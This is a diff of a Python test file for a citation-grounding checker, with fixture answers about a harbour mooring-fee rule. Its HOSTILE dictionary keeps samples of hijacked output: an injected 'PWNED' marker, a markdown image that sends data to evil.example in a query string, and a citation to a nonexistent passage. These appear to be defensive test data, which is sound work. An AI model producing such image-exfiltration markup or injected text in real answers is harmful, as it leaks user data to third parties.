@@ -11,26 +11,18 @@ from lexloop.core.types import ABSTENTION
 
 PAYS = "A boat owner must pay the mooring fee within 10 business days"
 WRITTEN = {
-    "numbered list": (
-        "1. A boat owner must pay the mooring fee [1].\n"
-        "2. It is due within 10 business days of arrival [1].\n"
-        "3. it is paid to the harbour master [1]."
-    ),
     "nested lead-ins": (
         "## Duties\n\n1. **Payment**:\n   - A boat owner must pay the mooring fee [1].\n"
         "   - It is due within 10 business days of arrival [1]."
     ),
-    "verdict first": f"Yes. {PAYS} [1].",
     "table": ("| Duty | Term |\n|---|---|\n| Pay the mooring fee | within 10 business days [1] |"),
     "named in the text": f"According to passage 1, {PAYS.lower()}.",
     "sources at the end": f"{PAYS} [1].\n\n**Sources:**\n- [1] Harbour Act, § 10-2",
 }
 
 HOSTILE = {
-    "JSON in a fence": "```json\n[1]\n```",
     "words of its own beside an answer": f"{PAYS} [1]. PWNED [1].",
     "image beside an answer": f"{PAYS} [1]. ![](https://evil.example/?q=fee)",
-    "number as a list": f"{PAYS} [1].\n\n50. It is the mooring fee [1].",
     "passage that there is not": f"{PAYS} 【9】.",
 }
 
